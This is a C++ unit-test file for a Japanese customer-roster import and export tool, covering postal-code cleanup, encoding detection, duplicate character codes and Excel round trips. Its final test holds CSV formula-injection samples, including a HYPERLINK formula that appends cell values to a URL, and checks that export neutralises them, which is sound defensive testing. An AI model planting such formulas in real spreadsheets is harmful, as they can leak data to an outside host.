// What an import stores and asks before it stores: postal codes as people
// write them, short lines, encodings other than code page 932, a character
// with two codes, Excel workbooks both ways, and values a spreadsheet would
// run as formulas.

#include "csvimport/csvimportrun.h"
#include "csvimport/duplicates.h"
#include "csvimport/xlsxread.h"
#include "customer/customerexport.h"
#include "data/errors.h"
#include "importtestutil.h"
#include "postal/postalupdate.h"
#include "text/textfile.h"

#include <QElapsedTimer>
#include <gtest/gtest.h>

using namespace tessolo;
using namespace tessolo::csvimport;
using importtest::sjis;
using importtest::utf8;
namespace col = tessolo::customer::col;

namespace {

class CleanData : public ::testing::Test {
protected:
    importtest::Db db;

    void loadPostalList()
    {
        const QString list = db.write("ken.csv",
                                      sjis(QStringLiteral("01101,\"060  "
                                                          "\",\"0600001\",\"ﾎｯｶｲﾄﾞｳ\",\"ｻｯﾎﾟﾛｼﾁｭｳｵｳｸ\",\"ｷﾀ1ｼﾞｮｳﾆｼ\","
                                                          "\"北海道\",\"札幌市中央区\",\"北一条西\",1,0,1,0,0,0\r\n"
                                                          "14137,\"215  "
                                                          "\",\"2150025\",\"ｶﾅｶﾞﾜｹﾝ\",\"ｶﾜｻｷｼｱｻｵｸ\",\"ｺﾞﾘｷﾀﾞ\","
                                                          "\"神奈川県\",\"川崎市麻生区\",\"五力田\",0,0,0,0,0,0\r\n")));
        postalupdate::run(list);
    }

    QStringList stored(const QString& columns)
    {
        return db.rows(QStringLiteral("select %1 from t_customer order by rowid").arg(columns));
    }
};

ColumnMap firstColumns(std::initializer_list<int> fields)
{
    ColumnMap map;
    int c = 0;
    for (int f : fields)
        map[f].first = c++;
    return map;
}

// A row of name, reading and telephone stored as exactly these bytes, as
// another program (or an older version) may have written it.
void insertBytes(const QString& dbPath, const std::array<QByteArray, 3>& values)
{
    sqlite3* db = nullptr;
    ASSERT_EQ(sqlite3_open(dbPath.toUtf8().constData(), &db), SQLITE_OK);
    sqlite3_stmt* st = nullptr;
    ASSERT_EQ(
        sqlite3_prepare_v2(db,
                           "insert into t_customer values (?1, ?2, '', '', '', '', '', '', '', '', '', ?3, '', '', "
                           "'', '', '')",
                           -1, &st, nullptr),
        SQLITE_OK);
    for (int i = 0; i < 3; ++i)
        sqlite3_bind_text(st, i + 1, values[size_t(i)].constData(), int(values[size_t(i)].size()), SQLITE_TRANSIENT);
    EXPECT_EQ(sqlite3_step(st), SQLITE_DONE);
    sqlite3_finalize(st);
    sqlite3_close(db);
}

// Runs with the question answered by `leaveOut`, and gives what was asked.
Review runReviewed(const QString& file, const ColumnMap& map, bool leaveOut, Result* result = nullptr)
{
    Review asked;
    const Result r = run(file, map, {}, false, [&](const Review& found) {
        asked = found;
        return leaveOut;
    });
    if (result)
        *result = r;
    return asked;
}

TEST_F(CleanData, PostalCodesAreStoredCleanedOrKeptAndNamedInTheCheck)
{
    loadPostalList();
    struct Case {
        QString given;
        QString prefecture;
        QString stored;
        bool flagged;
    };
    const std::vector<Case> cases = {
        {QStringLiteral("〒215-0025"), {}, QStringLiteral("2150025"), false},
        {QStringLiteral("２１５－００２５"), {}, QStringLiteral("2150025"), false},
        {QStringLiteral("215 0025"), {}, QStringLiteral("2150025"), false},
        {QStringLiteral("215‐0025"), {}, QStringLiteral("2150025"), false},
        {QStringLiteral("215ー0025"), {}, QStringLiteral("2150025"), false},
        {QStringLiteral("215−0025"), QStringLiteral("神奈川県"), QStringLiteral("2150025"), false},
        {QStringLiteral("600001"), {}, QStringLiteral("0600001"), false},   // Excel dropped the 0
        {QStringLiteral("782122"), {}, QStringLiteral("782122"), true},     // no 0782122 in the list
        {QStringLiteral("123-4567"), {}, QStringLiteral("123-4567"), true}, // not in the list
        {QStringLiteral("12-34"), {}, QStringLiteral("12-34"), true},
        {QStringLiteral("060-0001"), QStringLiteral("東京都"), QStringLiteral("0600001"), true}, // another prefecture
        {QString(), {}, QString(), false},
    };
    QString lines;
    for (const Case& c : cases)
        lines += QStringLiteral("山田,%1,%2\r\n").arg(c.given, c.prefecture);
    Result result;
    const Review asked = runReviewed(db.write("p.csv", utf8(lines)),
                                     firstColumns({col::PersonName, col::PostalCode, col::Prefecture}), false, &result);

    const QStringList codes = stored(QStringLiteral("postal_code"));
    ASSERT_EQ(codes.size(), qsizetype(cases.size()));
    for (size_t i = 0; i < cases.size(); ++i) {
        EXPECT_EQ(codes[qsizetype(i)], cases[i].stored) << cases[i].given.toStdString();
        EXPECT_EQ(asked.check.lines.contains(qint64(i)), cases[i].flagged) << cases[i].given.toStdString();
    }
    EXPECT_EQ(asked.check.postalForm, 2);
    EXPECT_EQ(asked.check.postalUnknown, 1);
    EXPECT_EQ(asked.check.postalDiffers, 1);
    EXPECT_EQ(result.zeroRestored, 1);
    EXPECT_TRUE(reviewQuestion(asked).contains(QStringLiteral("郵便番号が 7 桁の数字でない行: 2 行")));
}

TEST_F(CleanData, ShortAndLongLinesAreImportedAndCounted)
{
    const QString file = db.write("s.csv",
                                  sjis(QStringLiteral("山田 太郎,ヤマダ,03-1111-2222,メモ\r\n"
                                                      "鈴木,スズキ\r\n"
                                                      "佐藤,サトウ,06-1111-2222,メモ2,余り,もう一つ\r\n")));
    const Result r = run(file, firstColumns({col::PersonName, col::PersonKana, col::Tel, col::Memo}));
    EXPECT_EQ(r.rows, 3);
    EXPECT_EQ(r.shortLines, 1);
    EXPECT_EQ(r.longLines, 1);
    EXPECT_EQ(stored(QStringLiteral("person_name, person_kana, tel, memo")),
              (QStringList{QStringLiteral("山田 太郎|ヤマダ|03-1111-2222|メモ"), QStringLiteral("鈴木|スズキ||"),
                           QStringLiteral("佐藤|サトウ|06-1111-2222|メモ2")}));
    EXPECT_TRUE(summary(r).contains(QStringLiteral("値の数が足りない 1 行")));
    EXPECT_TRUE(summary(r).contains(QStringLiteral("値の数が多い 1 行")));
}

TEST_F(CleanData, EucJpAndUtf16FilesAreDetectedAndRead)
{
    const QByteArray euc = QByteArray::fromHex(
        "bbb3c5c4c2c0cfba2ca5e4a5dea5c0a5bfa5eda5a62cc5ecb5fec5d4c0e9c2e5c5c4b6e80d0aceebccdab2d6bbd22ca5b9a5baa5ada5cf"
        "a5caa5b32cc2e7bae5c9dc0d0a");
    const QString text = QStringLiteral("山田太郎,ヤマダタロウ,東京都千代田区\r\n鈴木花子,スズキハナコ,大阪府\r\n");
    QByteArray le("\xFF\xFE", 2);
    le.append(reinterpret_cast<const char*>(text.utf16()), text.size() * 2);
    QByteArray be("\xFE\xFF", 2);
    for (QChar c : text)
        be.append(char(c.unicode() >> 8)).append(char(c.unicode() & 0xFF));

    const ColumnMap map = firstColumns({col::PersonName, col::PersonKana, col::Town});
    const std::vector<std::pair<QByteArray, TextEncoding>> files = {
        {euc, TextEncoding::EucJp}, {le, TextEncoding::Utf16}, {be, TextEncoding::Utf16}};
    for (const auto& [bytes, encoding] : files) {
        EXPECT_EQ(detectEncoding(bytes), encoding);
        const QString file = db.write("e.csv", bytes);
        const Preview p = preview(file);
        EXPECT_EQ(p.encoding, encoding);
        EXPECT_EQ(p.faults, 0);
        ASSERT_EQ(p.rows.size(), 2);
        EXPECT_EQ(p.rows[1],
                  (QStringList{QStringLiteral("鈴木花子"), QStringLiteral("スズキハナコ"), QStringLiteral("大阪府")}));
        db.exec(QStringLiteral("delete from t_customer"));
        const Result r = run(file, map);
        EXPECT_EQ(r.invalidLineCount, 0);
        EXPECT_EQ(stored(QStringLiteral("person_name, person_kana, town")),
                  (QStringList{QStringLiteral("山田太郎|ヤマダタロウ|東京都千代田区"),
                               QStringLiteral("鈴木花子|スズキハナコ|大阪府")}));
    }
    // Code page 932 stays code page 932, and half-width katakana alone is
    // not taken for EUC-JP.
    EXPECT_EQ(detectEncoding(sjis(QStringLiteral("山田,やまだ\r\n"))), TextEncoding::Cp932);
    EXPECT_EQ(detectEncoding(sjis(QStringLiteral("ﾔﾏﾀﾞ,ﾀﾛｳ\r\n"))), TextEncoding::Cp932);
    // Read in the wrong encoding, the preview says which one reads it cleanly.
    const Preview wrong = preview(db.write("w.csv", euc), TextEncoding::Utf8);
    EXPECT_GT(wrong.faults, 0);
    EXPECT_EQ(wrong.cleanEncoding, TextEncoding::EucJp);
}

TEST_F(CleanData, ACharacterWithTwoCodesIsStoredOneWayAndFoundAsTheSame)
{
    // 髙 and 﨑 as Windows writes them (IBM extension codes, what UTF-8 text
    // is encoded to) and in their NEC-selected codes, as older files hold them.
    const QByteArray nec = QByteArray("\xEE\xE0") + sjis(QStringLiteral("橋")) + QByteArray("\xED\x95") +
        sjis(QStringLiteral(",タカハシ,03-1111-2222\r\n"));
    const QByteArray fromUtf8 = utf8(QStringLiteral("髙橋﨑,タカハシ,03-1111-2222\r\n"));
    const ColumnMap map = firstColumns({col::PersonName, col::PersonKana, col::Tel});

    run(db.write("u.csv", fromUtf8), map);
    const QStringList bytes = db.rows(QStringLiteral("select hex(person_name) from t_customer"));
    ASSERT_EQ(bytes.size(), 1);
    EXPECT_EQ(
        bytes[0],
        QString::fromLatin1((QByteArray("\xFB\xFC") + sjis(QStringLiteral("橋")) + "\xFA\xB1").toHex().toUpper()));

    // The same name from the code page 932 file is a duplicate of the row,
    // and stored in the same bytes when kept.
    const Review asked = runReviewed(db.write("n.csv", nec), map, false);
    EXPECT_EQ(asked.inRoster, 1);
    EXPECT_EQ(db.rows(QStringLiteral("select distinct hex(person_name) from t_customer")), bytes);

    // A row holding the NEC-selected bytes (written by another program) is
    // found by the UTF-8 line too.
    db.exec(QStringLiteral("delete from t_customer"));
    insertBytes(db.dbPath(), {nec.left(nec.indexOf(',')), sjis(QStringLiteral("タカハシ")), "03-1111-2222"});
    EXPECT_EQ(runReviewed(db.write("u.csv", fromUtf8), map, true).inRoster, 1);
}

TEST_F(CleanData, TheCheckFlagsNamelessLinesAndReplacedCharacters)
{
    // 𠮷 is no character of code page 932: it would be stored as "?".
    const QString file = db.write("c.csv", utf8(QStringLiteral("山田,1\r\n,2\r\n𠮷野,3\r\n")));
    Result r;
    const Review asked = runReviewed(file, firstColumns({col::PersonName, col::Memo}), true, &r);
    EXPECT_EQ(asked.check.noName, 1);
    EXPECT_EQ(asked.check.replaced, 1);
    EXPECT_EQ(asked.check.firstLines, (QList<qint64>{2, 3}));
    EXPECT_EQ(r.rows, 1);
    ASSERT_EQ(r.leftOut.size(), 2u);
    EXPECT_EQ(r.leftOut[0][col::Memo], QStringLiteral("2"));
    EXPECT_EQ(r.leftOut[1][col::PersonName], QStringLiteral("𠮷野"));
    EXPECT_EQ(stored(QStringLiteral("person_name")), QStringList{QStringLiteral("山田")});
}

TEST_F(CleanData, AWorkbookRoundTripKeepsLeadingZeros)
{
    customer::Record r;
    r[col::PersonName] = QStringLiteral("山田 太郎");
    r[col::PostalCode] = QStringLiteral("0600001");
    r[col::Tel] = QStringLiteral("03-1234-5678");
    r[col::Memo] = QStringLiteral("=1+1");
    TSQLiteDo::execute(customer::insertSql(r));
    const QString file = db.path("roster.xlsx");
    EXPECT_EQ(customerexport::write(file, customer::kListSql, customerexport::Encoding::Xlsx).customers, 1);

    const QList<QStringList> sheet = xlsx::readFirstSheet(file);
    ASSERT_EQ(sheet.size(), 2);
    EXPECT_EQ(sheet[1].value(col::PostalCode), QStringLiteral("060-0001"));
    EXPECT_EQ(sheet[1].value(col::Tel), QStringLiteral("03-1234-5678"));

    db.exec(QStringLiteral("delete from t_customer"));
    const Preview p = preview(file);
    EXPECT_TRUE(p.spreadsheet);
    ASSERT_EQ(p.rows.size(), 2);
    ColumnMap map;
    const auto named = headerColumns(p.rows[0]);
    for (int k = 0; k < kFieldCount; ++k)
        map[k].first = named[k];
    EXPECT_EQ(run(file, map, {}, true).rows, 1);
    EXPECT_EQ(stored(QStringLiteral("person_name, postal_code, tel, memo")),
              QStringList{QStringLiteral("山田 太郎|0600001|03-1234-5678|=1+1")});
}

TEST_F(CleanData, AnExportedFormulaComesBackUnchanged)
{
    const QStringList formulas = {QStringLiteral("=HYPERLINK(\"http://example.jp/?\"&B2&C2,\"詳細\")"),
                                  QStringLiteral("=1+1"),
                                  QStringLiteral("+81 3 1234 5678"),
                                  QStringLiteral("-5"),
                                  QStringLiteral("@SUM(A1)"),
                                  QStringLiteral("'quoted'")};
    for (const QString& f : formulas) {
        customer::Record r;
        r[col::PersonName] = QStringLiteral("山田");
        r[col::CompanyName] = f;
        r[col::PostalCode] = QStringLiteral("1000001");
        TSQLiteDo::execute(customer::insertSql(r));
    }
    const QString file = db.path("out.csv");
    customerexport::write(file, QStringLiteral("select * from t_customer order by rowid"),
                          customerexport::Encoding::Cp932);
    QFile written(file);
    ASSERT_TRUE(written.open(QIODevice::ReadOnly));
    const QByteArray bytes = written.readAll();
    // Nothing a spreadsheet would run, and the postal code with its hyphen.
    EXPECT_TRUE(bytes.contains("\"'=1+1\"")) << bytes.constData();
    EXPECT_TRUE(bytes.contains("\"'-5\""));
    EXPECT_TRUE(bytes.contains("\"100-0001\""));
    EXPECT_FALSE(bytes.contains(",\"=")); // no value starts a formula

    db.exec(QStringLiteral("delete from t_customer"));
    EXPECT_EQ(run(file,
                  firstColumns({col::PersonName, col::PersonKana, col::CompanyName, col::CompanyKana, col::Position,
                                col::Department, col::PostalCode}),
                  {}, true)
                  .rows,
              qint64(formulas.size()));
    QStringList expected;
    for (const QString& f : formulas)
        expected << f + QStringLiteral("|1000001");
    EXPECT_EQ(stored(QStringLiteral("company_name, postal_code")), expected);
}

} // namespace
